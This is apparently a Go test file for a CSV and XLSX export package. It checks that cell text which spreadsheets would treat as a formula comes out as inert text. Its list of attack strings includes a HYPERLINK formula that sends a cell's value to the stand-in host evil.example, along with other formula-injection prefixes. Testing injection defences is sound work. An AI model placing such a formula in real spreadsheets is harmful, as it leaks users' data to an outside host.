package export_test

import (
	"bytes"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/borasstad/lokalbanken/internal/export"
	"github.com/borasstad/lokalbanken/internal/export/exporttest"
)

// attacks are texts a person could type as an organisation's or a series' name that a
// spreadsheet would run as a formula if they arrived as one.
var attacks = []string{
	`=HYPERLINK("http://evil.example/?x="&A1;"klicka")`,
	"+1+1",
	"-2+3",
	"@SUM(1;2)",
	"\t=1+1",
	"\r=1+1",
}

func table() export.Table {
	rows := [][]any{
		{"Föreningen Åäö; \"citat\"\nrad två", 12, int64(-3), 2.5, time.Date(2026, 3, 29, 0, 0, 0, 0, time.UTC), nil},
	}
	for _, a := range attacks {
		rows = append(rows, []any{a, 0, int64(0), 0.0, nil, nil})
	}
	return export.Table{Title: "Bokade timmar: [2026]", Header: []string{"Organisation", "Antal", "Förändring", "Timmar", "Datum", "Tom"}, Rows: rows}
}

// TestCSV: Python's csv module, told only that ; separates cells, reads back every cell;
// the file has a BOM and CRLF; formulas arrive as text with an apostrophe first, numbers
// (even negative ones) as numbers with a decimal comma.
func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := export.WriteCSV(&buf, table()); err != nil {
		t.Fatal(err)
	}
	got := exporttest.ReadCSV(t, buf.Bytes())
	if !got.BOM || !got.CRLF || got.Delimiter != ";" {
		t.Errorf("bom %v crlf %v delimiter %q, want a BOM, CRLF and ;", got.BOM, got.CRLF, got.Delimiter)
	}
	want := [][]string{
		{"Organisation", "Antal", "Förändring", "Timmar", "Datum", "Tom"},
		{"Föreningen Åäö; \"citat\"\nrad två", "12", "-3", "2,5", "2026-03-29", ""},
	}
	for _, a := range attacks {
		want = append(want, []string{"'" + a, "0", "0", "0", "", ""})
	}
	if d := cmp.Diff(want, got.Rows); d != "" {
		t.Errorf("rows (-want +got):\n%s", d)
	}
}

// TestCSVTables: several tables in one file, each under its title, an empty row between.
func TestCSVTables(t *testing.T) {
	var buf bytes.Buffer
	a := export.Table{Title: "A", Header: []string{"x"}, Rows: [][]any{{1}}}
	b := export.Table{Title: "=B", Header: []string{"y"}, Rows: [][]any{{"z"}}}
	if err := export.WriteCSV(&buf, a, b); err != nil {
		t.Fatal(err)
	}
	want := "\uFEFFA\r\nx\r\n1\r\n\r\n'=B\r\ny\r\nz\r\n"
	if buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}
}

// TestXLSX: openpyxl reads the workbook: the sheet's name made valid, the header frozen,
// numbers as numbers, the date as a date, and every formula attack as a text cell with
// exactly the text typed (openpyxl's type "s", never "f").
func TestXLSX(t *testing.T) {
	var buf bytes.Buffer
	second := export.Table{Title: "Bokade timmar: [2026]", Header: []string{"x"}}
	if err := export.WriteXLSX(&buf, table(), second); err != nil {
		t.Fatal(err)
	}
	sheets := exporttest.ReadXLSX(t, buf.Bytes())
	if len(sheets) != 2 || sheets[0].Title != "Bokade timmar- -2026-" || sheets[1].Title != "Bokade timmar- -2026- (2)" {
		t.Fatalf("sheets %+v", sheets)
	}
	s := sheets[0]
	if s.Frozen == nil || *s.Frozen != "A2" {
		t.Errorf("frozen %v, want A2", s.Frozen)
	}
	want := [][]exporttest.Cell{
		{cell("Organisation", "s"), cell("Antal", "s"), cell("Förändring", "s"), cell("Timmar", "s"), cell("Datum", "s"), cell("Tom", "s")},
		{cell("Föreningen Åäö; \"citat\"\nrad två", "s"), cell(12.0, "n"), cell(-3.0, "n"), cell(2.5, "n"), cell("2026-03-29", "d"), cell(nil, "n")},
	}
	for _, a := range attacks {
		want = append(want, []exporttest.Cell{cell(a, "s"), cell(0.0, "n"), cell(0.0, "n"), cell(0.0, "n"), cell(nil, "n"), cell(nil, "n")})
	}
	if d := cmp.Diff(want, s.Rows); d != "" {
		t.Errorf("cells (-want +got):\n%s", d)
	}
}

func cell(v any, t string) exporttest.Cell { return exporttest.Cell{V: v, T: t} }

// TestSend: the headers of a download.
func TestSend(t *testing.T) {
	for _, f := range []export.Format{export.CSV, export.XLSX} {
		rec := httptest.NewRecorder()
		if err := export.Send(rec, "rapport-2026", f, table()); err != nil {
			t.Fatal(err)
		}
		if rec.Code != 200 || rec.Header().Get("Content-Type") != f.ContentType() ||
			rec.Header().Get("Content-Disposition") != `attachment; filename="rapport-2026.`+string(f)+`"` {
			t.Errorf("%s: %d %v", f, rec.Code, rec.Header())
		}
	}
}
